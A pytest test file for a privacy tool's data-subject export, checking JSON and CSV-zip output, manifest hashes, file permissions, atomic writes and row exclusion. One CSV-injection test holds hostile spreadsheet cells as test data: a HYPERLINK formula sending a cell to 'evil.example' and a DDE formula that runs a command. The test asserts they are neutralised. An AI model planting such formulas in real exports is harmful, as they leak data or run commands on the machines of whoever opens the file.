"""Snapshots and the portability export: content, manifest hashes, atomic owner-only files."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from privdesk.discovery.export import (
    SearchSnapshot,
    canonical_json,
    snapshot_from_dict,
    snapshot_from_result,
    snapshot_to_csv_zip,
    snapshot_to_dict,
    snapshot_to_json_file,
)
from privdesk.discovery.search import Match, SearchError, SearchQuery, SearchResult, TableCount, Via


def _snapshot() -> SearchSnapshot:
    matches = (
        Match("crm", "customers", {"id": 1}, {"id": 1, "email": "zoë@example.com", "note": 'a, "quoted"\nline'},
              ("email",)),
        Match("crm", "orders", {"id": 10}, {"id": 10, "customer_id": 1, "total": "9.50"}, (), Via("customers", {"id": 1}), 1),
        Match("shop/eu", "orders", {"id": 7}, {"id": 7, "email": "ZOË@example.com", "paid": None}, ("email",)),
    )
    result = SearchResult(SearchQuery(emails=("zoë@example.com",)), matches,
                          (SearchError("mkt", "The database server cannot be reached."),),
                          (TableCount("crm", "orders", 1, True),), 0.42, connections=("crm", "shop/eu", "mkt"))
    return snapshot_from_result(result, sources={"crm": "sqlite", "shop/eu": "postgresql"},
                                taken_at=datetime(2026, 11, 25, 12, 0, tzinfo=UTC))


def test_snapshot_round_trips_through_json() -> None:
    s = _snapshot()
    d = json.loads(json.dumps(snapshot_to_dict(s)))
    assert snapshot_from_dict(d) == s
    assert d["identifiers"]["emails"] == ["zoë@example.com"]
    assert d["truncated"] == [{"connection": "crm", "table": "orders"}]


def test_json_export(tmp_path: Path) -> None:
    out = tmp_path / "export.json"
    info = snapshot_to_json_file(_snapshot(), "DSR-2026-0001", out)
    assert (out.stat().st_mode & 0o777) == 0o600
    raw = out.read_bytes()
    assert info.sha256 == hashlib.sha256(raw).hexdigest()
    doc = json.loads(raw)
    assert doc["data"]["crm"]["customers"][0]["email"] == "zoë@example.com"
    assert doc["data"]["shop/eu"]["orders"][0]["paid"] is None
    m = doc["manifest"]
    assert m["reference"] == "DSR-2026-0001" and m["generated_at"].endswith("+00:00")
    assert m["row_counts"] == {"crm": {"customers": 1, "orders": 1}, "shop/eu": {"orders": 1}}
    assert m["sha256"]["data"] == hashlib.sha256(canonical_json(doc["data"])).hexdigest()
    assert [s["connection"] for s in m["sources"]] == ["crm", "shop/eu", "mkt"]
    assert {"connection": "mkt", "reason": "The database server cannot be reached."} in m["incomplete"]
    assert not list(tmp_path.glob(".*part"))


def test_csv_zip_export(tmp_path: Path) -> None:
    out = tmp_path / "export.zip"
    info = snapshot_to_csv_zip(_snapshot(), "DSR-2026-0001", out)
    assert (out.stat().st_mode & 0o777) == 0o600
    assert info.rows == 3
    with zipfile.ZipFile(out) as z:
        names = set(z.namelist())
        assert names == {"manifest.json", "crm/customers.csv", "crm/orders.csv", "shop_eu/orders.csv"}
        manifest = json.loads(z.read("manifest.json"))
        for name, digest in manifest["sha256"].items():
            assert hashlib.sha256(z.read(name)).hexdigest() == digest
        rows = list(csv.DictReader(io.StringIO(z.read("crm/customers.csv").decode("utf-8-sig"))))
    assert rows == [{"id": "1", "email": "zoë@example.com", "note": 'a, "quoted"\nline'}]
    assert manifest["files"]["shop_eu/orders.csv"] == {"connection": "shop/eu", "table": "orders"}
    assert manifest["reference"] == "DSR-2026-0001"


def test_failed_export_leaves_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "export.json"
    out.write_text("previous")
    import os

    def boom(*_a: object, **_k: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", boom)
    with pytest.raises(OSError):
        snapshot_to_json_file(_snapshot(), "R", out)
    assert out.read_text() == "previous"
    assert list(tmp_path.iterdir()) == [out]


def test_portability_and_appendix_hold_only_the_subjects_rows(tmp_path: Path) -> None:
    from privdesk.discovery.search import Excluded
    from privdesk.documents.model import ExportSnapshot

    matches = (
        Match("crm", "customers", {"id": 1}, {"id": 1, "email": "a@x"}, ("email",), role="subject"),
        Match("crm", "customers", {"id": 3}, {"id": 3, "email": "c@x"}, ("phone",), role="candidate",
              reason="the phone matches, but the row holds another e-mail"),
        Match("crm", "orders", {"id": 10}, {"id": 10}, (), Via("customers", {"id": 1}), 1, role="subject"),
        Match("crm", "orders", {"id": 11}, {"id": 11}, (), Via("customers", {"id": 1}), 1, role="subject"),
        Match("crm", "products", {"id": 5}, {"id": 5, "name": "Lamp"}, (), Via("orders", {"id": 10}), 2,
              role="context"),
    )
    result = SearchResult(SearchQuery(emails=("a@x",), phones=("0207",)), matches, (), (), 0.1,
                          connections=("crm",), excluded=(Excluded("crm", "employees", 1, "belong to other people"),))
    dropped = frozenset({("crm", "orders", repr([("id", 11)]))})
    snap = snapshot_from_result(result, dropped=dropped)
    assert snap.row_count == 2
    assert {(x.table, x.rows, x.reason) for x in snap.excluded} == {
        ("employees", 1, "belong to other people"), ("customers", 1, "are candidates the officer did not include"),
        ("orders", 1, "were excluded by the officer")}
    doc = json.loads((tmp_path / "p.json").read_bytes() if snapshot_to_json_file(snap, "R", tmp_path / "p.json")
                     else b"{}")
    assert doc["data"] == {"crm": {"customers": [{"id": 1, "email": "a@x"}], "orders": [{"id": 10}]}}
    assert doc["manifest"]["context_rows"] == 1
    assert {x["sentence"] for x in doc["manifest"]["excluded"]} >= {"1 row of table employees belongs to other people"}
    appendix = ExportSnapshot.from_search(snap)
    assert {(s.table, len(s.rows)) for s in appendix.sources} == {("customers", 1), ("orders", 1)}
    back = snapshot_from_dict(json.loads(json.dumps(snapshot_to_dict(snap))))
    assert back == snap
    included = snapshot_from_result(result, include_candidates=True)
    assert included.row_count == 4


def test_csv_cells_that_spreadsheets_run_are_neutralised(tmp_path: Path) -> None:
    """Issue 11 point 6 (OWASP CSV injection): CSV neutralised and listed; JSON exact."""
    hostile = {"id": 1, "name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "cmd": "=cmd|' /C calc'!A0",
               "plus": "+1", "at": "@SUM(1)", "tab": "\t=1", "ok": "Zoë", "n": -5}
    result = SearchResult(SearchQuery(emails=("a@example.com",)),
                          (Match("crm", "customers", {"id": 1}, hostile, ()),), (), (), 0.1, connections=("crm",))
    snap = snapshot_from_result(result, sources={"crm": "sqlite"})
    out = tmp_path / "export.zip"
    snapshot_to_csv_zip(snap, "DSR-1", out)
    with zipfile.ZipFile(out) as z:
        manifest = json.loads(z.read("manifest.json"))
        rows = list(csv.DictReader(io.StringIO(z.read("crm/customers.csv").decode("utf-8-sig"))))
    row = rows[0]
    for col in ("name", "cmd", "plus", "at", "tab"):
        assert row[col] == "'" + hostile[col], col  # type: ignore[operator]
    assert row["ok"] == "Zoë" and row["n"] == "-5"  # text left alone, numbers stay numbers
    cells = manifest["neutralised"]["cells"]
    assert {(c["file"], c["row"], c["column"]) for c in cells} == {
        ("crm/customers.csv", 1, col) for col in ("name", "cmd", "plus", "at", "tab")}
    assert "apostrophe" in manifest["neutralised"]["rule"]
    js = tmp_path / "export.json"
    snapshot_to_json_file(snap, "DSR-1", js)
    assert json.loads(js.read_bytes())["data"]["crm"]["customers"][0] == hostile


def test_each_tables_rows_are_in_key_order() -> None:
    """Links reach a person's payments in any order (Sakila: 5, 1, 11); the appendix and the
    portability file list them by key, numbers by value, and text keys after numbers."""
    found = [Match("shop", "payment", {"payment_id": k}, {"payment_id": k, "amount": "2.99"}, (),
                   Via("customer", {"customer_id": 1}), 1) for k in (5, 1, 11, "B-2", 2)]
    found.append(Match("shop", "customer", {"customer_id": 1}, {"customer_id": 1}, ("email",)))
    lines = [Match("shop", "line", {"order": o, "n": n}, {"order": o, "n": n}, (), Via("customer", {"customer_id": 1}), 1)
             for o, n in ((2, 1), (1, 2), (1, 1))]
    result = SearchResult(SearchQuery(emails=("mary@example.com",)), (*found, *lines), (), (), 0.1,
                          connections=("shop",))
    snap = snapshot_from_result(result, sources={"shop": "sqlite"}, taken_at=datetime(2026, 12, 2, tzinfo=UTC))
    tables = snap.tables()["shop"]
    assert [m.key["payment_id"] for m in tables["payment"]] == [1, 2, 5, 11, "B-2"]
    assert [(m.key["order"], m.key["n"]) for m in tables["line"]] == [(1, 1), (1, 2), (2, 1)]
    assert list(tables) == ["payment", "customer", "line"]  # tables stay in the order found
